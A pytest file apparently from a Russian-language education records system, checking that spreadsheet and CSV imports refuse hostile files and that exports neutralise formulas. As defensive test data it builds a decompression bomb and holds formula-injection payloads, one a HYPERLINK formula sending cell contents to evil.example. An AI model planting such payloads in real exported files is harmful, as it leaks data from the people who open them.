"""Hostile files: every one is refused in Russian with a stable code or a row error, never a 500."""

from __future__ import annotations

import io
import time
import zipfile

import pytest
from openpyxl import load_workbook

from efs import xlsx as spreadsheets
from efs.errors import ValidationFailed
from efs.people.imports import import_commit
from efs.people.models import Educator
from tests.people.test_imports import EDU_HEADER, person, preview, xlsx


def _rezip(content: bytes, replace: dict[str, bytes | None]) -> bytes:
    """The workbook with some members replaced (or, with None, removed)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename in replace:
                if replace[item.filename] is not None:
                    target.writestr(item.filename, replace[item.filename])
            else:
                target.writestr(item, source.read(item.filename))
    return out.getvalue()


def test_malformed_sheet_xml_is_a_broken_file(world):
    content = _rezip(
        xlsx([EDU_HEADER, person("Орлова", org=world.org_a.inn)]),
        {"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row><c"},
    )
    with pytest.raises(ValidationFailed) as refused:
        preview(world, content)
    assert refused.value.code == "import_file_broken"


def test_workbook_without_sheets_is_refused(world):
    base = xlsx([EDU_HEADER])
    workbook_xml = zipfile.ZipFile(io.BytesIO(base)).read("xl/workbook.xml").decode()
    start, end = workbook_xml.index("<sheets>"), workbook_xml.index("</sheets>") + len("</sheets>")
    content = _rezip(
        base,
        {
            "xl/workbook.xml": (workbook_xml[:start] + "<sheets/>" + workbook_xml[end:]).encode(),
            "xl/worksheets/sheet1.xml": None,
        },
    )
    with pytest.raises(ValidationFailed) as refused:
        preview(world, content)
    assert refused.value.code in ("import_file_empty", "import_file_broken")


def test_csv_field_over_the_csv_limit_is_refused(world):
    content = (";".join(EDU_HEADER) + "\n" + '"' + "Я" * 131_073 + '";Мария\n').encode()
    with pytest.raises(ValidationFailed) as refused:
        preview(world, content, name="people.csv")
    assert refused.value.code == "import_file_broken"
    assert "символ" in refused.value.message


@pytest.mark.parametrize("name", ["people.csv", "people.xlsx"])
def test_nul_in_a_cell_and_a_value_longer_than_its_column_are_row_errors(world, name):
    rows = [
        EDU_HEADER,
        person("Орл\x00ова", org=world.org_a.inn),
        person("Щ" * 5000, org=world.org_a.inn),
        person("Белова", org=world.org_a.inn),
    ]
    if name.endswith(".csv"):
        content = "\n".join(";".join(str(v) for v in row) for row in rows).encode()
    else:
        # openpyxl refuses to write a NUL; put it into the shared strings by hand.
        content = xlsx([[str(v).replace("\x00", "NULMARK") for v in row] for row in rows])
        archive = zipfile.ZipFile(io.BytesIO(content))
        marked = {n: archive.read(n) for n in archive.namelist() if b"NULMARK" in archive.read(n)}
        content = _rezip(content, {n: data.replace(b"NULMARK", b"&#0;") for n, data in marked.items()})
    try:
        batch = preview(world, content, name=name)
    except ValidationFailed as refused:  # an XML parser may refuse the character reference as a whole
        assert refused.code == "import_file_broken"
        return
    errors = {(e["row"], e["column"]): e["message"] for e in batch.errors}
    assert "управляющий символ" in errors[(2, "Фамилия")]
    assert "5000 символов" in errors[(3, "Фамилия")] and "100" in errors[(3, "Фамилия")]
    assert batch.valid_rows == 1
    import_commit(actor=world.users["regional"], batch=batch, only_valid=True)
    assert list(Educator.objects.filter(last_name="Белова").values_list("last_name", flat=True)) == ["Белова"]


def test_decompression_bomb_is_refused_before_parsing(world):
    bomb_cell = "A" * (60 * 1024 * 1024)  # 60 MB in one cell; deflates to ~60 KB
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
        f'<c r="A1" t="inlineStr"><is><t>{bomb_cell}</t></is></c></row></sheetData></worksheet>'
    )
    content = _rezip(xlsx([EDU_HEADER]), {"xl/worksheets/sheet1.xml": sheet.encode()})
    del bomb_cell, sheet
    assert len(content) < 1024 * 1024
    started = time.perf_counter()
    with pytest.raises(ValidationFailed) as refused:
        preview(world, content)
    assert refused.value.code == "import_file_too_large"
    assert time.perf_counter() - started < 5


def test_a_long_cell_under_the_ratio_cap_is_refused_before_parsing():
    cell = "".join(chr(0x0410 + (i * 7919) % 64) for i in range(200_000))  # varied text: compresses little
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
        f'<c r="A1" t="inlineStr"><is><t>{cell}</t></is></c></row></sheetData></worksheet>'
    )
    content = _rezip(xlsx([["x"]]), {"xl/worksheets/sheet1.xml": sheet.encode()})
    with pytest.raises(ValidationFailed) as refused:
        list(spreadsheets.xlsx_rows(content, broken_code="broken", too_big_code="too_big"))
    assert refused.value.code == "too_big"


def test_exports_never_start_a_formula(world):
    """The class: every text cell of every export goes through one writer."""
    hostile = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "ok", "a\x01b"]
    content = spreadsheets.table_bytes("Лист", ["h"], [[v] for v in hostile] + [[5], [-5]])
    values = [row[0] for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2, values_only=True)]
    assert values == ["'" + v.replace("\r", "\n") for v in hostile[:6]] + ["ok", "ab", 5, -5]  # XML reads CR back as LF


def test_people_export_neutralises_an_imported_formula(world):
    world.same_org.last_name = '=HYPERLINK("http://evil.example/?"&A1)'
    world.same_org.save()
    response = world.client("regional").get("/people/educators/export.xlsx")
    assert response.status_code == 200
    names = [
        row[0] for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2, values_only=True)
    ]
    assert "'" + world.same_org.last_name in names
    assert not any(str(n).startswith("=") for n in names)


def test_imports_of_programs_items_and_frameworks_share_the_checks(world):
    from efs.catalog.importexport import _cards
    from efs.competencies.services import framework_from_upload

    broken = _rezip(xlsx([["x"]]), {"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row><c"})
    with pytest.raises(ValidationFailed) as refused:
        _cards("p.xlsx", broken)
    assert refused.value.code == "programs_file_broken"
    with pytest.raises(ValidationFailed) as refused:
        framework_from_upload("f.xlsx", broken)
    assert refused.value.code == "framework_file_broken"




def test_a_protected_cell_imports_back_as_written():
    content = spreadsheets.table_bytes("Лист", ["a", "b"], [["-0.5; 0.5", "=1+1"]])
    rows = list(spreadsheets.xlsx_rows(content, broken_code="broken"))
    assert rows[1] == ["-0.5; 0.5", "=1+1"]
